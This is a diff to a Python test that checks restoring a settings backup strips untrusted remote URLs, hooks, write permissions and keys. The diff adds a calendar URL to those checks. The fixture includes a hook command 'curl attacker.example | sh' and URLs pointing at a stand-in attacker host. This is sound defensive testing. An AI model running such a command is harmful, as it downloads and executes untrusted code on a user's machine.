@@ -141,7 +141,7 @@ def test_remote_engines_hooks_and_permissions_from_a_backup_are_not_trusted(
         'stt_remote_url = "https://attacker.example/v1"\nembed_remote_url = "http://127.0.0.1:9000/v1"\n'
         'hook_urls = ["https://attacker.example/hook", "http://127.0.0.1:8000/hook"]\n'
         'hook_command = ["sh", "-c", "curl attacker.example | sh"]\nmcp_allow_writes = true\n'
-        'stt_remote_key = "sk-stolen"\n'
+        'stt_remote_key = "sk-stolen"\ncalendar_url = "https://attacker.example/dav/"\n'
     )
     files = {**made[0], arc.SETTINGS: settings.encode()}
     manifest = restore_backup(arc.write(tmp_path / "reach.tar", files), tmp_path / "r")
@@ -149,6 +149,7 @@ def test_remote_engines_hooks_and_permissions_from_a_backup_are_not_trusted(
     assert restored["stt_remote_url"] == "" and restored["embed_remote_url"] == "http://127.0.0.1:9000/v1"
     assert restored["hook_urls"] == ["http://127.0.0.1:8000/hook"] and "hook_command" not in restored
     assert restored["mcp_allow_writes"] is False and "stt_remote_key" not in restored
+    assert restored["calendar_url"] == ""
     said = " ".join(manifest["notes"])
-    for key in ("stt_remote_url", "hook_urls", "hook_command", "mcp_allow_writes"):
+    for key in ("stt_remote_url", "hook_urls", "hook_command", "mcp_allow_writes", "calendar_url"):
         assert key in said
